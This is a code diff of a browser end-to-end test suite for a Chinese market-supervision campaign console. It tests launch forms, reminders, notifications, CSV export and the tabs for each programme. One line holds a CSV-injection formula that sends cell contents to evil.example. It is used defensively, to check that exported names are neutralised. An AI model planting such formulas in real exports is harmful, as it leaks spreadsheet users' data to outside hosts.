@@ -3,7 +3,10 @@
 // Temporal link; a coordinator's 催办 reaches the station officer's notification bell, and reading it lowers
 // the badge; the coordinator exports selected tasks as CSV (a formula-like name neutralised); the app-bar
 // search finds an operator by the start of its 统一社会信用代码; a coordinator sets up and removes a
-// jurisdiction's webhook (an inward URL is refused with its reason on the field).
+// jurisdiction's webhook (an inward URL is refused with its reason on the field). The launch form shows each
+// programme kind's own settings (Zhoushan's criterion points by rubric group, periods as a number and a unit,
+// the list quota; Changxing's weights), sends only that kind's, and shows the API's reason for a wrong sum on
+// the group; the campaign page has each kind's tabs (the award and 红黑榜 only for a staged award).
 import { readFileSync } from 'node:fs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Page } from 'playwright-core';
@@ -12,7 +15,9 @@ import { ARTIFACTS, openConsole, type Console } from './helpers-browser.js';
 import { startHarness, uniqueYear, waitFor, type Harness } from './helpers.js';
 import { startApi, TEST_TEMPORAL_UI, type Api } from './api-helpers.js';
 import { calendarOpenAt } from './helpers-campaign.js';
+import { shanghaiSpec } from './helpers-programmes.js';
 import { UI_DIR } from '../api/server.js';
+import { BUILT_IN } from '../domain/programmes/index.js';
 
 const enc = encodeURIComponent;
 const q = (filter: object) => `filter=${enc(JSON.stringify(filter))}`;
@@ -21,6 +26,7 @@ let api: Api;
 let ui: Console;
 const signIn = (username: string) => ui.signIn(username);
 const tokens: Record<string, string> = {};
+const launchedHere: string[] = [];
 
 const as = (user: string) => ({ token: tokens[user]! });
 const post = (user: string, p: string, body?: unknown) => api.call('POST', p, { ...as(user), body });
@@ -31,7 +37,14 @@ const zhichengOperators = () => h.db.operator.findMany({ where: { jurisdictionId
 
 /** A Changxing campaign of coord.changxing with `openKey` open now for ten minutes. */
 async function launch(openKey: string, operatorIds: string[]): Promise<string> {
-  const r = await post('coord.changxing', '/campaigns', { programme: 'changxing', year: await uniqueYear(h.db), jurisdictionId: '330522', stages: calendarOpenAt(openKey, 600_000), reminderLeadHours: 0, operatorIds });
+  const r = await post('coord.changxing', '/campaigns', {
+    programme: 'changxing',
+    year: await uniqueYear(h.db),
+    jurisdictionId: '330522',
+    stages: calendarOpenAt(openKey, 600_000),
+    reminderLeadHours: 0,
+    operatorIds,
+  });
   expect(r.status, JSON.stringify(r.body)).toBe(201);
   return r.body.id as string;
 }
@@ -52,10 +65,21 @@ const badge = async (page: Page) => Number((await page.textContent('[data-testid
 beforeAll(async () => {
   h = await startHarness();
   api = await startApi(h, UI_DIR);
-  for (const u of ['coord.changxing', 'officer.zhicheng', 'leader.changxing']) tokens[u] = await api.login(u);
+  for (const u of ['coord.changxing', 'officer.zhicheng', 'leader.changxing', 'coord.zhoushan', 'coord.lijiang']) tokens[u] = await api.login(u);
   ui = await openConsole(api.url);
 });
 afterAll(async () => {
+  // Campaigns launched here with the programme's calendar wait for stages a century away.
+  for (const c of await h.db.campaign.findMany({ where: { id: { in: launchedHere } } })) {
+    await h.env.client.workflow
+      .getHandle(c.workflowId)
+      .terminate('test done')
+      .catch(() => {});
+    await h.env.client.workflow
+      .getHandle(`register-scoring-${c.id}`)
+      .terminate('test done')
+      .catch(() => {});
+  }
   await ui?.close();
   await api?.close();
   await h?.stop();
@@ -69,8 +93,21 @@ describe('console tools', () => {
     // after its stage closed still counts (late).
     const t0 = Date.now();
     const at = (ms: number) => new Date(t0 + ms).toISOString();
-    const calendar = [['mobilization', -5000, -4000], ['self_check', -3000, -2000], ['rectification', -500, 6000], ['evaluation', 7000, 8000], ['summary', 9000, 600_000]] as const;
-    const launched = await post('coord.changxing', '/campaigns', { programme: 'changxing', year: await uniqueYear(h.db), jurisdictionId: '330522', stages: calendar.map(([key, s, d]) => ({ key, startsAt: at(s), dueAt: at(d) })), reminderLeadHours: 0, operatorIds: [a!.id, b!.id] });
+    const calendar = [
+      ['mobilization', -5000, -4000],
+      ['self_check', -3000, -2000],
+      ['rectification', -500, 6000],
+      ['evaluation', 7000, 8000],
+      ['summary', 9000, 600_000],
+    ] as const;
+    const launched = await post('coord.changxing', '/campaigns', {
+      programme: 'changxing',
+      year: await uniqueYear(h.db),
+      jurisdictionId: '330522',
+      stages: calendar.map(([key, s, d]) => ({ key, startsAt: at(s), dueAt: at(d) })),
+      reminderLeadHours: 0,
+      operatorIds: [a!.id, b!.id],
+    });
     expect(launched.status, JSON.stringify(launched.body)).toBe(201);
     const campaignId = launched.body.id as string;
     const cases = [`${campaignId}:${a!.id}`, `${campaignId}:${b!.id}`];
@@ -81,7 +118,11 @@ describe('console tools', () => {
       return t.length === 2 && t;
     }, 'the two inspection tasks');
     for (const t of inspections) {
-      const r = await post('officer.zhicheng', `/tasks/${enc(t.id)}/complete`, { method: 'sampling', areas: [{ key: 'quality', finding: 'serious', description: '抽检发现过期食品' }], violation: 'expired_food' });
+      const r = await post('officer.zhicheng', `/tasks/${enc(t.id)}/complete`, {
+        method: 'sampling',
+        areas: [{ key: 'quality', finding: 'serious', description: '抽检发现过期食品' }],
+        violation: 'expired_food',
+      });
       expect(r.status, JSON.stringify(r.body)).toBe(200);
     }
     await waitFor(async () => (await h.db.case.count({ where: { id: { in: cases }, excludedKind: 'filed' } })) === 2, 'both cases filed');
@@ -97,8 +138,19 @@ describe('console tools', () => {
     const csv = await downloadedCsv(page, () => page.click('[data-testid="roster-csv"]'));
     expect(csv.name).toBe(`${roster.id.replaceAll(':', '_')}.csv`); // Chromium keeps no ':' in file names
     expect(csv.rows[0]).toEqual(['序号', '经营主体', '统一社会信用代码', '辖区', '赛道', '总分', '依据/说明', '日期']);
-    type Entry = { operatorName: string; uscc: string; jurisdictionName: string; track: string | null; totalScore: number | null; ground?: string; groundName?: string; since?: string };
-    const expected = (roster.entries as Entry[]).map((e, i) => [i + 1, e.operatorName, e.uscc, e.jurisdictionName, e.track ?? '', e.totalScore ?? '', e.groundName ?? e.ground ?? '', e.since ?? ''].map(String));
+    type Entry = {
+      operatorName: string;
+      uscc: string;
+      jurisdictionName: string;
+      track: string | null;
+      totalScore: number | null;
+      ground?: string;
+      groundName?: string;
+      since?: string;
+    };
+    const expected = (roster.entries as Entry[]).map((e, i) =>
+      [i + 1, e.operatorName, e.uscc, e.jurisdictionName, e.track ?? '', e.totalScore ?? '', e.groundName ?? e.ground ?? '', e.since ?? ''].map(String),
+    );
     expect(csv.rows.slice(1)).toEqual(expected);
     expect(csv.rows.slice(1).map((r) => r[6])).toEqual(['立案查处：过期食品', '立案查处：过期食品']);
     await page.screenshot({ path: `${ARTIFACTS}/console-roster-csv.png`, fullPage: true });
@@ -132,7 +184,9 @@ describe('console tools', () => {
     // One reminder per open task per day.
     expect((await post('coord.changxing', '/tasks/remind', { taskIds: [task.id] })).body).toEqual({ reminded: 1, alreadyToday: 0 });
     expect((await post('coord.changxing', '/tasks/remind', { taskIds: [task.id] })).body).toEqual({ reminded: 0, alreadyToday: 1 });
-    const reminder = (await get('officer.zhicheng', `/notifications?${q({ kind: 'reminder', campaignId })}`)).body.find((n: { taskId: string }) => n.taskId === task.id);
+    const reminder = (await get('officer.zhicheng', `/notifications?${q({ kind: 'reminder', campaignId })}`)).body.find(
+      (n: { taskId: string }) => n.taskId === task.id,
+    );
     expect(reminder).toMatchObject({ read: false, kind: 'reminder' });
 
     const page = await signIn('officer.zhicheng');
@@ -147,14 +201,24 @@ describe('console tools', () => {
     await page.screenshot({ path: `${ARTIFACTS}/console-notifications.png`, fullPage: true });
     await item.click();
     await page.waitForURL((u) => u.hash === `#/tasks/${enc(task.id)}/show`);
-    const read = await waitFor(async () => (await get('officer.zhicheng', `/notifications?${q({ kind: 'reminder', campaignId })}`)).body.find((n: { id: string; read: boolean }) => n.id === reminder.id && n.read), 'the reminder read');
+    const read = await waitFor(
+      async () =>
+        (await get('officer.zhicheng', `/notifications?${q({ kind: 'reminder', campaignId })}`)).body.find(
+          (n: { id: string; read: boolean }) => n.id === reminder.id && n.read,
+        ),
+      'the reminder read',
+    );
     expect(read.read).toBe(true);
     // The badge went down, or (other test files notify this officer at the same time) shows exactly
     // what the server now counts as unread.
-    await waitFor(async () => {
-      const now = await badge(page);
-      return now < before || now === (await get('officer.zhicheng', '/notifications/unread-count')).body.unread;
-    }, 'the badge to follow the read', 20_000);
+    await waitFor(
+      async () => {
+        const now = await badge(page);
+        return now < before || now === (await get('officer.zhicheng', '/notifications/unread-count')).body.unread;
+      },
+      'the badge to follow the read',
+      20_000,
+    );
     await page.screenshot({ path: `${ARTIFACTS}/console-notification-opened.png`, fullPage: true });
     // The list page: the reminder is there, read now.
     await page.goto(`${api.url}/#/notifications?${q({ kind: 'reminder', campaignId })}`);
@@ -168,7 +232,10 @@ describe('console tools', () => {
     // An operator name a spreadsheet would run as a formula (OWASP CSV injection) is written as text, with a
     // leading '. (Set on the task's copy of the name: the seeded operator is shared with other suites.)
     const formula = '=HYPERLINK("http://evil.example/?"&A1,"点击")';
-    await h.db.task.update({ where: { id: task.id }, data: { details: { ...(task.details as object), operatorName: formula, operatorUscc: '+8613800000000' } } });
+    await h.db.task.update({
+      where: { id: task.id },
+      data: { details: { ...(task.details as object), operatorName: formula, operatorUscc: '+8613800000000' } },
+    });
     const coord = await signIn('coord.changxing');
     await coord.goto(`${api.url}/#/tasks?${q({ campaignId, status: 'open' })}`);
     await coord.waitForSelector('tbody tr.RaDatagrid-row');
@@ -188,7 +255,9 @@ describe('console tools', () => {
     await waitFor(async () => (await h.db.task.findUniqueOrThrow({ where: { id: task.id } })).claimedById === 'u-officer-zhicheng', 'the task assigned');
     const officerName = (await h.db.user.findUniqueOrThrow({ where: { id: 'u-officer-zhicheng' } })).displayName;
     await coord.waitForSelector(`tbody tr.RaDatagrid-row td.column-claimedByName:has-text("${officerName}")`);
-    expect((await get('officer.zhicheng', `/notifications?${q({ kind: 'assignment', campaignId })}`)).body.map((n: { taskId: string }) => n.taskId)).toContain(task.id);
+    expect((await get('officer.zhicheng', `/notifications?${q({ kind: 'assignment', campaignId })}`)).body.map((n: { taskId: string }) => n.taskId)).toContain(
+      task.id,
+    );
     await coord.close();
     await h.env.client.workflow.getHandle(`campaign-${campaignId}`).terminate('test done');
   });
@@ -240,5 +309,171 @@ describe('console tools', () => {
     await page.waitForSelector('[data-testid="webhook-state"]:has-text("未配置")');
     expect((await get('coord.changxing', `/jurisdictions/${jid}/webhook`)).status).toBe(404);
     await page.close();
+  });
+});
+
+/** Picks `option` of the MUI select or autocomplete labelled `label` (typing `typed` first, for an autocomplete). */
+async function choose(page: Page, label: string, option: string | RegExp, typed?: string) {
+  const input = page.getByLabel(label).first();
+  if (typed) await input.fill(typed);
+  else await input.click();
+  await page
+    .getByRole('option', { name: option, exact: typeof option === 'string' })
+    .first()
+    .click();
+}
+
+/** The launch form with `programme` chosen, once its settings are shown. */
+async function launchForm(user: string, programme: string): Promise<Page> {
+  const page = await signIn(user);
+  await page.goto(`${api.url}/#/campaigns/create`);
+  await choose(page, '活动项目', programme);
+  await page.waitForSelector('[data-testid="settings-inputs"]');
+  return page;
+}
+
+/** Year and jurisdiction, then 保存; the year is returned. */
+async function submitLaunch(page: Page, jurisdiction: RegExp, typed: string): Promise<number> {
+  const year = await uniqueYear(h.db);
+  await page.fill('input[name="year"]', String(year));
+  await choose(page, '辖区', jurisdiction, typed);
+  await page.click('button[type="submit"]');
+  return year;
+}
+
+/** The tabs of a campaign's page, by their path (overview: ''). */
+async function campaignTabs(page: Page, campaignId: string): Promise<string[]> {
+  await page.goto(`${api.url}/#/campaigns/${enc(campaignId)}/show`);
+  // 概况 shows at once; the kind's tabs once the campaign is read (every kind has at least one).
+  await page.waitForSelector('[role="tablist"] [role="tab"]:nth-child(2)');
+  const hrefs = await page.locator('[role="tablist"] [role="tab"]').evaluateAll((els) => els.map((e) => e.getAttribute('href') ?? ''));
+  return hrefs.map((href) => /\/show\/?(.*)$/.exec(href)?.[1] ?? href);
+}
+
+describe('the launch form and the campaign page per programme kind', () => {
+  const zhoushan = BUILT_IN.zhoushan;
+
+  it('launches a Zhoushan campaign with changed criterion points and list quota: the campaign’s settings hold them', async () => {
+    const page = await launchForm('coord.zhoushan', zhoushan.name);
+    // Its own settings: the twelve criteria in the rubric's four groups, none of Changxing's.
+    for (const g of zhoushan.application.rubric) expect(await page.locator(`[data-testid="criteria-${g.key}"] input`).count()).toBe(g.criteria.length);
+    expect(await page.locator('[data-testid="criterion-points"] input').count()).toBe(12);
+    expect(await page.locator('[data-testid^="weights-"]').count()).toBe(0);
+    expect(await page.locator('input[name="settings.awardThreshold"]').count()).toBe(0);
+    // Defaults from the programme; the pre-review period as a number of days, never as ISO 8601 text.
+    expect(await page.inputValue('input[name="settings.criterionPoints.lawful"]')).toBe('9');
+    expect(await page.inputValue('input[name="settings.listQuota"]')).toBe('20');
+    expect(await page.getAttribute('[data-testid="criterion-points-sum"]', 'data-sum')).toBe('100');
+    expect(await page.inputValue('[data-testid="duration-amount-settings.preReviewPeriod"]')).toBe('10');
+    expect(await page.textContent('[data-testid="duration-unit-settings.preReviewPeriod"]')).toBe('天');
+    expect(await page.textContent('[data-testid="settings-inputs"]')).not.toMatch(/P\d+[DMY]|ISO 8601/);
+
+    // 12 + 5 instead of 9 + 8 keeps the total at 100; 15 rooms on the list; 15 days to pre-review.
+    await page.fill('input[name="settings.criterionPoints.lawful"]', '12');
+    await page.fill('input[name="settings.criterionPoints.managed"]', '5');
+    await page.fill('input[name="settings.listQuota"]', '15');
+    await page.fill('[data-testid="duration-amount-settings.preReviewPeriod"]', '15');
+    expect(await page.getAttribute('[data-testid="criterion-points-sum"]', 'data-sum')).toBe('100');
+    const year = await submitLaunch(page, /^舟山市/, '舟山');
+    const id = `zhoushan-330900-${year}`;
+    launchedHere.push(id);
+    await page.waitForURL((u) => u.hash.startsWith(`#/campaigns/${enc(id)}/show`));
+    await page.screenshot({ path: `${ARTIFACTS}/console-launch-zhoushan.png`, fullPage: true });
+
+    const campaign = (await get('coord.zhoushan', `/campaigns/${enc(id)}`)).body;
+    expect(campaign.kind).toBe('application');
+    expect(campaign.definition.settings).toEqual({
+      criterionPoints: { ...zhoushan.defaults.settings.criterionPoints, lawful: 12, managed: 5 },
+      preReviewPeriod: 'P15D',
+      listThreshold: 80,
+      listQuota: 15,
+    });
+    await page.close();
+  });
+
+  it('shows the API’s reason for a wrong sum of criterion points on the group, and its reason for no list limit on the input', async () => {
+    const page = await launchForm('coord.zhoushan', zhoushan.name);
+    await page.fill('input[name="settings.criterionPoints.lawful"]', '20');
+    // The live total shows the sum at once; the rule is the API's (domain/programmes/kinds/application.ts).
+    await page.waitForSelector('[data-testid="criterion-points-sum"][data-sum="111"]');
+    await page.fill('input[name="settings.listThreshold"]', '');
+    await page.fill('input[name="settings.listQuota"]', '');
+    const year = await submitLaunch(page, /^舟山市/, '舟山');
+    const sum = page.locator('[data-testid="server-field-error"][data-path="settings.criterionPoints"]');
+    await sum.waitFor();
+    expect(await sum.textContent()).toBe('十二项评审分值合计须为 100，现为 111');
+    // A problem of one setting shows under its input (paths settings.<field>).
+    const helper = await page.getAttribute('input[name="settings.listThreshold"]', 'aria-describedby');
+    await page.waitForSelector(`[id="${helper}"]:has-text("须设定入库分数线或名额（或两者）")`);
+    await page.screenshot({ path: `${ARTIFACTS}/console-launch-wrong-sum.png`, fullPage: true });
+    expect(await h.db.campaign.count({ where: { programme: 'zhoushan', year } })).toBe(0);
+    await page.close();
+  });
+
+  it('the Changxing form still shows its weights per track, its title validity as a number and unit, and none of another kind’s', async () => {
+    const changxing = BUILT_IN.changxing;
+    const page = await launchForm('coord.changxing', changxing.name);
+    const dimensions = changxing.scoring.groups.flatMap((g) => g.dimensions);
+    for (const t of changxing.tracks) {
+      expect(await page.locator(`[data-testid="weights-${t.key}"] input`).count()).toBe(dimensions.length);
+      for (const d of dimensions)
+        expect(await page.inputValue(`input[name="settings.weights.${t.key}.${d.key}"]`)).toBe(String(changxing.defaults.settings.weights[t.key]![d.key]));
+    }
+    expect(await page.inputValue('input[name="settings.awardThreshold"]')).toBe('85');
+    expect(await page.inputValue('[data-testid="duration-amount-settings.titleValidity"]')).toBe('1');
+    expect(await page.textContent('[data-testid="duration-unit-settings.titleValidity"]')).toBe('年');
+    expect(await page.locator('[data-testid="criterion-points"]').count()).toBe(0);
+    await page.screenshot({ path: `${ARTIFACTS}/console-launch-changxing.png`, fullPage: true });
+    // Another programme, then back: each starts from its own defaults (a changed weight is not carried over).
+    await page.fill(`input[name="settings.weights.live_marketing.${dimensions[0]!.key}"]`, '1');
+    await choose(page, '活动项目', zhoushan.name);
+    await page.waitForSelector('[data-testid="settings-inputs"][data-kind="application"]');
+    expect(await page.locator('[data-testid^="weights-"]').count()).toBe(0);
+    await choose(page, '活动项目', changxing.name);
+    await page.waitForSelector('[data-testid="settings-inputs"][data-kind="staged_award"]');
+    expect(await page.inputValue(`input[name="settings.weights.live_marketing.${dimensions[0]!.key}"]`)).toBe(
+      String(changxing.defaults.settings.weights.live_marketing![dimensions[0]!.key]),
+    );
+    await page.close();
+  });
+
+  it('the campaign page has each kind’s tabs: the award and 红黑榜 only for a staged award', async () => {
+    const year = () => uniqueYear(h.db);
+    const launch = async (user: string, body: object) => {
+      const r = await post(user, '/campaigns', body);
+      expect(r.status, JSON.stringify(r.body)).toBe(201);
+      launchedHere.push(r.body.id);
+      return r.body.id as string;
+    };
+    const definedId = `sh_tabs_${Date.now()}`;
+    expect((await post('coord.changxing', '/programmes', shanghaiSpec(definedId))).status).toBe(201);
+    const ids = {
+      staged_award: await launch('coord.changxing', { programme: 'changxing', year: await year(), jurisdictionId: '330522' }),
+      application: await launch('coord.zhoushan', { programme: 'zhoushan', year: await year(), jurisdictionId: '330900' }),
+      register: await launch('coord.lijiang', { programme: 'lijiang', year: await year(), jurisdictionId: '530700' }),
+      defined: await launch('coord.changxing', { programme: definedId, year: await year(), jurisdictionId: '330522' }),
+    };
+    // Every campaign record names its kind, a list row too (it has no definition).
+    for (const [kind, id] of Object.entries(ids)) {
+      const user = kind === 'application' ? 'coord.zhoushan' : kind === 'register' ? 'coord.lijiang' : 'coord.changxing';
+      expect((await get(user, `/campaigns?${q({ id })}`)).body[0]?.kind).toBe(kind);
+    }
+    const expected = {
+      staged_award: ['', 'enrolment', 'award', 'rosters'],
+      application: ['', 'applications', 'cultivation'],
+      register: ['', 'intake'],
+      defined: ['', 'enrolment', 'roster'],
+    };
+    const changxingPage = await signIn('coord.changxing');
+    expect(await campaignTabs(changxingPage, ids.staged_award)).toEqual(expected.staged_award);
+    expect(await campaignTabs(changxingPage, ids.defined)).toEqual(expected.defined);
+    await changxingPage.close();
+    const zhoushanPage = await signIn('coord.zhoushan');
+    expect(await campaignTabs(zhoushanPage, ids.application)).toEqual(expected.application);
+    await zhoushanPage.screenshot({ path: `${ARTIFACTS}/console-campaign-tabs-zhoushan.png`, fullPage: true });
+    await zhoushanPage.close();
+    const lijiangPage = await signIn('coord.lijiang');
+    expect(await campaignTabs(lijiangPage, ids.register)).toEqual(expected.register);
+    await lijiangPage.close();
   });
 });
